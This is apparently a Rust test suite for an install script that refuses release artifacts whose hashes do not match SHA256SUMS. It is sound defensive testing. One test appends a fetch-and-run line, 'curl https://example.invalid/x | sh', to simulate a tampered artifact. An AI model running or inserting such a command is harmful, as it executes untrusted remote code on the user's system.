//! `scripts/install.sh`: an artifact is installed only when it matches `SHA256SUMS`.
#![allow(clippy::unwrap_used)] // test helpers fail loudly

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use sha2::{Digest, Sha256};

const TARGET: &str = "x86_64-unknown-linux-gnu";

struct Scratch(PathBuf);
impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = fs_err::remove_dir_all(&self.0);
    }
}

/// A release folder with one artifact (a small executable script) and its `SHA256SUMS`.
fn release(name: &str) -> Scratch {
    let dir = std::env::temp_dir().join(format!("aibox-install-{name}-{}", std::process::id()));
    let _ = fs_err::remove_dir_all(&dir);
    fs_err::create_dir_all(dir.join("release")).unwrap();
    let body = b"#!/bin/sh\necho 'aibox 0.1.0'\n";
    let artifact = format!("aibox-{TARGET}");
    fs_err::write(dir.join("release").join(&artifact), body).unwrap();
    fs_err::write(
        dir.join("release/SHA256SUMS"),
        format!(
            "{}  {artifact}\n{}  evidence.json\n",
            hex::encode(Sha256::digest(body)),
            "0".repeat(64)
        ),
    )
    .unwrap();
    Scratch(dir)
}

fn install(dir: &Path) -> Output {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/install.sh");
    Command::new("bash")
        .arg(script)
        .arg(dir.join("release"))
        .arg(dir.join("bin"))
        .env("AIBOX_TARGET", TARGET)
        .output()
        .unwrap()
}

fn bin_dir_entries(dir: &Path) -> Vec<String> {
    fs_err::read_dir(dir.join("bin"))
        .map(|r| {
            r.filter_map(Result::ok)
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_matching_artifact_is_installed_and_runs() {
    let s = release("good");
    let out = install(&s.0);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let installed = s.0.join("bin/aibox");
    assert_eq!(
        fs_err::read(&installed).unwrap(),
        fs_err::read(s.0.join(format!("release/aibox-{TARGET}"))).unwrap()
    );
    let version = Command::new(&installed).arg("--version").output().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&version.stdout).trim(),
        "aibox 0.1.0"
    );
    assert_eq!(bin_dir_entries(&s.0), ["aibox"]);
}

#[test]
fn a_tampered_artifact_is_refused_and_nothing_is_installed() {
    let s = release("tampered");
    let artifact = s.0.join(format!("release/aibox-{TARGET}"));
    let mut bytes = fs_err::read(&artifact).unwrap();
    bytes.extend_from_slice(b"curl https://example.invalid/x | sh\n");
    fs_err::write(&artifact, bytes).unwrap();
    let out = install(&s.0);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(stderr.contains("checksum mismatch"), "{stderr}");
    assert!(stderr.contains("nothing was installed"), "{stderr}");
    // No binary and no temporary copy left behind.
    assert!(
        bin_dir_entries(&s.0).is_empty(),
        "{:?}",
        bin_dir_entries(&s.0)
    );
}

#[test]
fn an_artifact_missing_from_sha256sums_or_without_sums_is_refused() {
    let s = release("unlisted");
    fs_err::write(
        s.0.join("release/SHA256SUMS"),
        format!("{}  evidence.json\n", "0".repeat(64)),
    )
    .unwrap();
    let out = install(&s.0);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("has 0 lines for"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    fs_err::remove_file(s.0.join("release/SHA256SUMS")).unwrap();
    let out = install(&s.0);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("SHA256SUMS not found"));
    assert!(!s.0.join("bin/aibox").exists());
}
